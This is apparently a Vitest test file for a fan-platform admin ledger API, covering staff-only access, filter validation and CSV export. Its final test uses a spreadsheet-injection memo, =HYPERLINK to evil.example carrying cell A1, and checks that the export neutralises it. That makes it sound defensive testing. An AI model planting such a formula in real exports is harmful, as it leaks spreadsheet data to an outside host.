import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/app.ts';
import { createOwner, createStaff, signupFan } from '../../../test/factories.ts';

const ROUTES = ['/api/admin/ledger/balances', '/api/admin/ledger/transactions', '/api/admin/ledger/monthly', '/api/admin/ledger/export.csv'];

describe('ledger routes: staff only, and the CSV export', () => {
  const t = useTestApp();
  const ledger = () => t.container.services.ledger;

  it('answers 401 to a visitor and 403 to a fan on every ledger route, and 200 to staff', async () => {
    const owner = await createOwner(t.app);
    const staff = await createStaff(t.app, owner.cookie);
    const fan = await signupFan(t.app);
    for (const url of ROUTES) {
      const anonymous = await t.app.inject({ method: 'GET', url });
      expect(anonymous.statusCode, url).toBe(401);
      expect(anonymous.json().error.code).toBe('auth.unauthenticated');
      const asFan = await t.app.inject({ method: 'GET', url, headers: { cookie: fan.cookie } });
      expect(asFan.statusCode, url).toBe(403);
      expect(asFan.body).not.toContain('provider_clearing');
      expect((await t.app.inject({ method: 'GET', url, headers: { cookie: staff.cookie } })).statusCode, url).toBe(200);
    }
    // The service refuses a fan too, whatever route calls it.
    const fanCtx = t.container.ctx({ kind: 'fan', fanId: fan.fan.id });
    await expect(ledger().balances(fanCtx)).rejects.toMatchObject({ code: 'auth.forbidden' });
    expect(() => ledger().exportCsv(fanCtx)).toThrow(expect.objectContaining({ code: 'auth.forbidden' }));
  });

  it('lists and sums over HTTP, and answers 400 to bad filters', async () => {
    const owner = await createOwner(t.app);
    await ledger().post(t.container.ctx({ kind: 'system' }), {
      source: 'test_sale',
      sourceId: 'o-1',
      occurredAt: new Date('2026-11-02T00:00:00Z'),
      entries: [
        { account: 'provider_clearing', amountMinor: 990, currency: 'CNY' },
        { account: 'store_revenue', amountMinor: -990, currency: 'CNY' },
      ],
    });
    const get = (url: string) => t.app.inject({ method: 'GET', url, headers: { cookie: owner.cookie } });
    const list = await get('/api/admin/ledger/transactions?account=store_revenue');
    expect(list.json()).toMatchObject({ total: 1, items: [{ sourceId: 'o-1', entries: [{ amountMinor: 990 }, { amountMinor: -990 }] }] });
    expect((await get('/api/admin/ledger/transactions?account=ad_revenue')).json().total).toBe(0);
    const balances = await get('/api/admin/ledger/balances?from=2026-11-01T00:00:00Z&to=2026-12-01T00:00:00Z');
    expect(balances.json().items).toContainEqual({ account: 'store_revenue', currency: 'CNY', debitMinor: 0, creditMinor: 990, balanceMinor: -990 });
    expect((await get('/api/admin/ledger/balances?from=2026-12-01T00:00:00Z')).json().items).toEqual([]);
    for (const bad of [
      'transactions?account=petty_cash',
      'transactions?pageSize=1000',
      'balances?from=yesterday',
      'balances?from=0000-01-01T00:00:00Z',
      'balances?from=2026-12-01T00:00:00Z&to=2026-11-01T00:00:00Z',
      'monthly?months=0',
      'monthly?months=121',
    ]) {
      expect((await get(`/api/admin/ledger/${bad}`)).statusCode, bad).toBe(400);
    }
  });

  it('exports every entry as CSV, with a formula in a memo neutralised', async () => {
    const owner = await createOwner(t.app);
    const fan = await signupFan(t.app);
    const memo = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const { id } = await ledger().post(t.container.ctx({ kind: 'system' }), {
      source: 'test_sale',
      sourceId: '@order-1',
      fanId: fan.fan.id,
      memo,
      occurredAt: new Date('2026-11-02T08:00:00Z'),
      entries: [
        { account: 'provider_clearing', amountMinor: 1200, currency: 'CNY' },
        { account: 'membership_revenue', amountMinor: -1200, currency: 'CNY' },
      ],
    });
    const res = await t.app.inject({ method: 'GET', url: '/api/admin/ledger/export.csv', headers: { cookie: owner.cookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const lines = res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('date,transaction_id,source,source_id,fan_id,account,debit_minor,credit_minor,currency,memo');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toBe(
      `2026-11-02T08:00:00.000Z,${id},test_sale,'@order-1,${fan.fan.id},provider_clearing,1200,,CNY,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    );
    expect(lines[2]).toContain(',membership_revenue,,1200,CNY,');
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
